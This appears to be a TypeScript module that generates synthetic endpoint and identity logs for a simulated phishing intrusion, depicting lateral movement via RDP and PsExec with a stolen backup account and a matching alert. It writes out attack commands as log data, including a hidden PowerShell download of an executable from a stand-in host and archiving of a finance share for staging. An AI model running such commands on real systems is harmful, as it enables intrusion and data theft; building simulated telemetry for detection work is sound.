import { deviceEvidence, fileEvidence, raiseAlert, userEvidence } from './alerts.ts';
import { BACKUP_SERVICE, deviceNamed, deviceOf, type Device } from './company.ts';
import { shortName, type DeviceLog, type Process } from './deviceEvents.ts';
import { createImage, IMAGES } from './images.ts';
import { identityLogon } from './logonNoise.ts';
import { openSession } from './sessions.ts';
import type { SampleTables } from './tables.ts';
import { MINUTE, SECOND, type Instant } from './time.ts';

/** Where the phishing story's programs come from. */
export const PAYLOAD_HOST = 'cdn-sync.metric-edge.example';

const PSEXEC_SERVICE = createImage('PSEXESVC.exe', 'C:\\Windows', {
  company: 'Sysinternals',
  product: 'Sysinternals PsExec',
  version: '2.43',
  description: 'PsExec Service',
});

/** The end of the phishing story: with the stolen password of the backup account from a workstation to two servers. */
export function tellLateralMovement(log: DeviceLog, tables: SampleTables, implant: Process, stolen: Instant): void {
  const device = deviceOf(implant.user);
  moveByRemoteDesktop(log, tables, device, stolen + 23n * MINUTE);
  moveByPsExec(log, tables, device, implant, stolen + 71n * MINUTE);
}

function moveByRemoteDesktop(log: DeviceLog, tables: SampleTables, device: Device, at: Instant): void {
  const server = deviceNamed('lks-fs-01');
  const session = openSession(server);
  log.start(
    device,
    openSession(device).explorer,
    IMAGES.mstsc,
    `"mstsc.exe" /v:${shortName(server)}`,
    at - 12n * SECOND,
  );
  log.reportConnection(device, openSession(device).explorer, at - 10n * SECOND, { ip: server.ip, port: 3389 });
  const logon = { Protocol: 'Negotiate', RemoteDeviceName: device.name, RemoteIP: device.ip, RemotePort: 50_811 };
  for (const seconds of [9n, 6n]) {
    log.reportLogon(server, session.lsass, at - seconds * SECOND, 'LogonFailed', BACKUP_SERVICE, {
      ...logon,
      LogonType: 'RemoteInteractive',
      FailureReason: 'InvalidUserNameOrPassword',
    });
  }
  log.reportLogon(server, session.lsass, at, 'LogonSuccess', BACKUP_SERVICE, {
    ...logon,
    LogonType: 'RemoteInteractive',
    LogonId: 41_882_207,
  });
  const columns = { LogonType: 'Credentials validation', Protocol: 'Ntlm', DestinationPort: 445 };
  tables.add(
    'IdentityLogonEvents',
    identityLogon(BACKUP_SERVICE, device, deviceNamed('lks-dc-01'), at + 1_022_300n, columns),
  );
  const remote = { user: BACKUP_SERVICE, integrity: 'High', logonId: 41_882_207, remote: device } as const;
  const shell = log.start(server, session.explorer, IMAGES.powershell, 'powershell.exe', at + 70n * SECOND, remote);
  const archive = 'Compress-Archive -Path D:\\Shares\\Finance -DestinationPath C:\\PerfLogs\\f.zip';
  log.start(server, shell, IMAGES.powershell, `powershell.exe -c "${archive}"`, at + 160n * SECOND, remote);
  log.reportFile(server, shell, at + 9n * MINUTE, 'FileCreated', {
    fileName: 'f.zip',
    folder: 'C:\\PerfLogs',
    size: 918_332_416,
  });
}

function moveByPsExec(log: DeviceLog, tables: SampleTables, device: Device, implant: Process, at: Instant): void {
  const server = deviceNamed('lks-sql-01');
  const session = openSession(server);
  log.reportConnection(device, implant, at - 3n * SECOND, { ip: server.ip, port: 445 });
  log.reportLogon(server, session.lsass, at - 2n * SECOND, 'LogonSuccess', BACKUP_SERVICE, {
    LogonType: 'Network',
    Protocol: 'NTLM',
    RemoteDeviceName: device.name,
    RemoteIP: device.ip,
    RemotePort: 51_207,
  });
  log.reportFile(server, session.services, at - SECOND, 'FileCreated', {
    fileName: PSEXEC_SERVICE.fileName,
    folder: PSEXEC_SERVICE.folder,
    image: PSEXEC_SERVICE,
    share: { name: 'ADMIN$', from: device, user: BACKUP_SERVICE },
  });
  const service = log.start(server, session.services, PSEXEC_SERVICE, 'C:\\Windows\\PSEXESVC.exe', at + 5_108_880n);
  const shell = log.start(server, service, IMAGES.cmd, 'cmd.exe', at + 3n * SECOND);
  log.start(server, shell, IMAGES.whoami, 'whoami', at + 6n * SECOND + 77_120n);
  log.start(
    server,
    shell,
    IMAGES.powershell,
    `powershell.exe -nop -w hidden -c "iwr https://${PAYLOAD_HOST}/s/b2 -OutFile C:\\Windows\\Temp\\upd7.exe"`,
    at + 20n * SECOND,
  );
  raiseAlert(tables, {
    at: at + 4n * MINUTE,
    title: 'A service was started from another device by PsExec',
    category: 'LateralMovement',
    severity: 'Medium',
    source: 'Microsoft Defender for Endpoint',
    detection: 'EDR',
    techniques: ['Service Execution (T1569.002)', 'SMB/Windows Admin Shares (T1021.002)'],
    evidence: [
      deviceEvidence(deviceNamed('lks-sql-01')),
      deviceEvidence(device),
      userEvidence(BACKUP_SERVICE),
      fileEvidence(deviceNamed('lks-sql-01'), PSEXEC_SERVICE),
    ],
  });
}
